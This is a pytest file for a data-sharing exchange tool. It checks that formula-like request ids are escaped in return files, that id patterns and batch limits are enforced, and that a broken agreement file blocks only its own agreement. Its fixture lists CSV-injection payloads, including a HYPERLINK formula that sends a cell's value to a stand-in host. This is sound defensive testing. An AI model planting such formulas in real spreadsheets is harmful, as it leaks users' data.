"""Hostile batches at the exchange: formula ids never come back live, an agreement's id form is enforced, a batch
too big is refused unread, and a broken agreement file stops only its own agreement."""

from __future__ import annotations

import csv
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import Engine, select

from sharelog.errors import InputError, ValidationFailed
from sharelog.exchange import generate_file_key, read_return_file, run_exchange
from sharelog.ledger import ledger_session
from sharelog.ledger.models import Exchange, RequestOutcome
from sharelog.settings import Settings, shipped_agreements_dir

from ..worlds import AGREEMENT, PREPARED, PURPOSE, SMALL, TEST_KEY, RegisterWorld, WorldFactory, engine_of

MONTH = "2019-02"
FORMULAS = (
    '=HYPERLINK("http://x.example/?"&C2,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    " =1+1",
)


@pytest.fixture
def world(worlds: WorldFactory) -> RegisterWorld:
    return worlds.register(SMALL)


@pytest.fixture
def settings(worlds: WorldFactory, tmp_path: Path) -> Settings:
    return worlds.copy(PREPARED, tmp_path, holder_key=TEST_KEY, actor="tester").settings


@pytest.fixture
def engine(settings: Settings) -> Iterator[Engine]:
    with engine_of(settings) as engine:
        yield engine


def _rows(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    return header, rows


def _write(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def _with_ids(world: RegisterWorld, target: Path, ids: dict[int, str]) -> Path:
    """The month's batch with the request ids of some rows (by index) replaced."""
    header, rows = _rows(world.batches[MONTH])
    for index, request_id in ids.items():
        rows[index][header.index("request_id")] = request_id
    return _write(target, header, rows)


def _formula_batch(world: RegisterWorld, target: Path) -> Path:
    """Every row's id turned into a formula (each still unique)."""
    header, rows = _rows(world.batches[MONTH])
    ids = {i: f"{FORMULAS[i % len(FORMULAS)]}{i}" for i in range(len(rows))}
    return _with_ids(world, target, ids)


@pytest.mark.parametrize("encrypted", [False, True], ids=["plain", "encrypted"])
def test_formula_ids_come_back_as_text_in_the_return_file(
    world: RegisterWorld, settings: Settings, engine: Engine, tmp_path: Path, encrypted: bool
) -> None:
    if encrypted:
        key_file = tmp_path / "keys" / "return.key"
        generate_file_key(key_file)
        settings = settings.model_copy(update={"return_file_key_file": key_file})
    batch = _formula_batch(world, tmp_path / "formulas.csv")
    result = run_exchange(
        settings, engine=engine, agreement_id=AGREEMENT, purpose=PURPOSE, batch=batch, month=MONTH
    )
    text = read_return_file(settings, result.return_file).decode("utf-8")
    returned = list(csv.DictReader(text.splitlines()))
    assert returned, "the batch's matches are returned"
    for row in returned:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), value
        assert row["request_id"].startswith("'")
    # the ledger keeps each reference as sent: the requester's own key for outcomes
    with ledger_session(engine) as session:
        refs = set(session.execute(select(RequestOutcome.request_ref)).scalars())
    assert {row["request_id"][1:] for row in returned} <= refs


def test_ordinary_ids_are_returned_as_sent(world: RegisterWorld, settings: Settings, engine: Engine) -> None:
    result = run_exchange(
        settings,
        engine=engine,
        agreement_id=AGREEMENT,
        purpose=PURPOSE,
        batch=world.batches[MONTH],
        month=MONTH,
    )
    _, batch_rows = _rows(world.batches[MONTH])
    header, returned = _rows(result.return_file)
    assert {row[0] for row in returned} <= {row[0] for row in batch_rows}


def _agreements_with_pattern(tmp_path: Path, pattern: str) -> Path:
    folder = tmp_path / "agreements"
    shutil.copytree(shipped_agreements_dir(), folder)
    path = folder / AGREEMENT / "v1.0.yaml"
    text = path.read_text("utf-8").replace(
        "provenance:\n",
        "provenance:\n  request_id_pattern:\n    status: assumed\n    note: sharelog's working value.\n",
        1,
    )
    path.write_text(text + f"request_id_pattern: '{pattern}'\n", encoding="utf-8")
    return folder


def test_an_id_not_in_the_agreements_form_is_refused_by_row_and_field(
    world: RegisterWorld, settings: Settings, engine: Engine, tmp_path: Path
) -> None:
    settings = settings.model_copy(
        update={"agreements_dir": _agreements_with_pattern(tmp_path, "HO-[0-9]{4}-[0-9]{2}-[0-9]{5}")}
    )
    assert run_exchange(
        settings,
        engine=engine,
        agreement_id=AGREEMENT,
        purpose=PURPOSE,
        batch=world.batches["2019-01"],
        month="2019-01",
    ).counts["received"]  # the synthetic ids have the form
    batch = _with_ids(world, tmp_path / "batch.csv", {2: FORMULAS[0], 6: "HO-2019-02-1"})
    with pytest.raises(ValidationFailed) as info:
        run_exchange(
            settings, engine=engine, agreement_id=AGREEMENT, purpose=PURPOSE, batch=batch, month=MONTH
        )
    form = f"not in the form {AGREEMENT} v1.0 sets for request ids (request_id_pattern)"
    assert [str(p) for p in info.value.problems] == [
        f"{batch}, row 4, field 'request_id': {form}",
        f"{batch}, row 8, field 'request_id': {form}",
    ]
    with ledger_session(engine) as session:
        states = list(session.execute(select(Exchange.state).order_by(Exchange.id)).scalars())
    assert states[-1] == "rejected"


@pytest.mark.parametrize(
    ("limit", "message"),
    [
        ({"max_batch_bytes": 1_000}, "the file is larger than 1,000 bytes, the most a file may be"),
        ({"max_batch_rows": 10}, "has more than 10 rows, the most a file may hold here"),
    ],
    ids=["bytes", "rows"],
)
def test_a_batch_over_the_limits_is_refused_and_recorded(
    world: RegisterWorld, settings: Settings, engine: Engine, limit: dict[str, int], message: str
) -> None:
    settings = settings.model_copy(update=limit)
    batch = world.batches[MONTH]
    with pytest.raises(ValidationFailed) as info:
        run_exchange(
            settings,
            engine=engine,
            agreement_id=AGREEMENT,
            purpose=PURPOSE,
            batch=batch,
            month=MONTH,
            name="b.csv",
        )
    assert info.value.message == f"b.csv: {message}"
    with ledger_session(engine) as session:
        [state] = session.execute(select(Exchange.state)).scalars()
    assert state == "rejected"


def test_a_broken_agreement_file_stops_only_its_own_agreement(
    world: RegisterWorld, settings: Settings, engine: Engine, tmp_path: Path
) -> None:
    folder = tmp_path / "agreements"
    shutil.copytree(shipped_agreements_dir(), folder)
    broken = folder / "ho-dfe-2015-mou" / "v2.1.yaml"
    broken.write_text(broken.read_text("utf-8") + "x: &a [1]\ny: *a\n", encoding="utf-8")
    settings = settings.model_copy(update={"agreements_dir": folder})
    result = run_exchange(
        settings,
        engine=engine,
        agreement_id=AGREEMENT,
        purpose=PURPOSE,
        batch=world.batches[MONTH],
        month=MONTH,
    )
    assert result.state in {"returned", "awaiting_review"}
    with pytest.raises(InputError) as info:
        run_exchange(
            settings,
            engine=engine,
            agreement_id="ho-dfe-2015-mou",
            purpose="locate-immigration-offenders",
            batch=world.batches[MONTH],
            month="2017-02",
        )
    assert info.value.message == (
        "agreement 'ho-dfe-2015-mou' cannot be used until its file has no problems (ho-dfe-2015-mou/v2.1.yaml)"
    )
    assert info.value.cli_hint == "`sharelog agreements validate` lists them"
